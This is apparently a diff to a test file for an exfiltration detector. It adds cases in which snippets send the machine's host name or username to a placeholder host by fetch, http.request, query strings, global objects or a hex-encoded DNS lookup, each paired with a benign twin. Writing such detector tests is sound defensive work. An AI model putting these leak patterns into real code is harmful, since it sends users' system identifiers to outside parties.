@@ -10,6 +10,48 @@ import { runDetectorCases, type DetectorCase } from '../../support/detector-case
 
 const CASES: DetectorCase[] = [
   {
+    name: 'an undeclared variable carries the host name to the request',
+    code: "const os = require('os'); const http = require('http');\nhost = os.hostname();\nhttp.request({ hostname: 'c.invalid', path: '/x?host=' + host }).end();",
+    expect: [{ severity: 'medium', line: 3, sourceKind: 'hostname', messageIncludes: 'http.request' }],
+    twin: { code: "const os = require('os'); const http = require('http');\nhost = os.hostname(); label = 'build';\nhttp.request({ hostname: 'c.invalid', path: '/x?label=' + label }).end();" },
+  },
+  {
+    name: 'an object filled property by property, stringified into a POST body',
+    code: "const os = require('os');\nconst data = {};\ndata.host = os.hostname();\ndata.user = os.userInfo().username;\nfetch('https://c.invalid/collect', { method: 'POST', body: JSON.stringify(data) });",
+    expect: [{ severity: 'medium', line: 5, messageIncludes: 'through fetch' }],
+    twin: { code: "const os = require('os');\nconst data = {};\ndata.version = '1.0.0';\nconsole.log(os.hostname());\nfetch('https://c.invalid/collect', { method: 'POST', body: JSON.stringify(data) });" },
+  },
+  {
+    name: 'a query string built with querystring',
+    code: "const os = require('os'); const qs = require('querystring');\nconst q = qs.stringify({ host: os.hostname() });\nfetch('https://c.invalid/?' + q);",
+    expect: [{ severity: 'medium', line: 3, sourceKind: 'hostname' }],
+    twin: { code: "const os = require('os'); const qs = require('querystring');\nconst q = qs.stringify({ v: '1' });\nfetch('https://c.invalid/?' + q); os.hostname();" },
+  },
+  {
+    name: 'URLSearchParams in a template URL',
+    code: "const os = require('os');\nconst p = new URLSearchParams({ u: os.userInfo().username });\nfetch(`https://c.invalid/?${p}`);",
+    expect: [{ severity: 'medium', sourceKind: 'user' }],
+    twin: { code: "const os = require('os');\nconst p = new URLSearchParams({ v: process.version });\nfetch(`https://c.invalid/?${p}`); os.userInfo();" },
+  },
+  {
+    name: 'stored on module.exports and read back',
+    code: "const os = require('os');\nmodule.exports.h = os.hostname();\nfetch('https://c.invalid/?h=' + module.exports.h);",
+    expect: [{ severity: 'medium', line: 3, sourceKind: 'hostname' }],
+    twin: { code: "const os = require('os');\nmodule.exports.h = os.hostname();\nfetch('https://c.invalid/?v=' + module.exports.version);" },
+  },
+  {
+    name: 'stored on globalThis and read back',
+    code: "const os = require('os');\nglobalThis.h = os.hostname();\nfetch('https://c.invalid/?h=' + globalThis.h);",
+    expect: [{ severity: 'medium', line: 3, sourceKind: 'hostname' }],
+    twin: { code: "const os = require('os');\nglobalThis.h = os.hostname();\nfetch('https://c.invalid/?v=' + globalThis.version);" },
+  },
+  {
+    name: 'hex-encoded host name as a DNS label',
+    code: "const os = require('os'); const dns = require('dns');\nconst label = Buffer.from(os.hostname()).toString('hex');\ndns.lookup(label + '.c.invalid', () => {});",
+    expect: [{ severity: 'medium', sourceKind: 'hostname', messageIncludes: 'dns.lookup' }],
+    twin: { code: "const os = require('os'); const dns = require('dns');\nconst label = Buffer.from('static').toString('hex');\ndns.lookup(label + '.c.invalid', () => {}); os.hostname();" },
+  },
+  {
     name: 'host name in a fetch body',
     code: "const os = require('os');\nfetch('https://t.invalid/c', { method: 'POST', body: JSON.stringify({ h: os.hostname() }) });",
     expect: [{ severity: 'medium', line: 2, sourceKind: 'hostname', messageIncludes: 'through fetch' }],
